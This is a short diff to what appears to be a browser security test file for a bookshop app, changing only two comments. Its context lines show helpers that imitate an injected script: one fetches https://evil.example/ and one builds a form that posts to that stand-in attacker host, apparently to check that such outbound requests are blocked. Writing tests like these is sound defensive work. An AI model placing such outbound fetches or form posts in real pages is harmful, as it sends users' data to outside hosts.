@@ -4,7 +4,7 @@ import { arriveSignedIn, newCustomer } from './people.ts';
 import { placeOrder, seededBooks } from './shopData.ts';
 import { visit } from './visit.ts';
 
-/** Tries what an injected script could try. */
+/** Tries what an injected script could do. */
 async function misbehave(): Promise<void> {
   const add = (name: string, properties: object, text = '') => {
     const element = Object.assign(document.createElement(name), properties);
@@ -27,7 +27,6 @@ async function misbehave(): Promise<void> {
   await fetch('https://evil.example/').catch(() => undefined);
 }
 
-/** Submits a form to another host. */
 function sendAway(): void {
   const form = document.createElement('form');
   Object.assign(form, { action: 'https://evil.example/', method: 'post' });
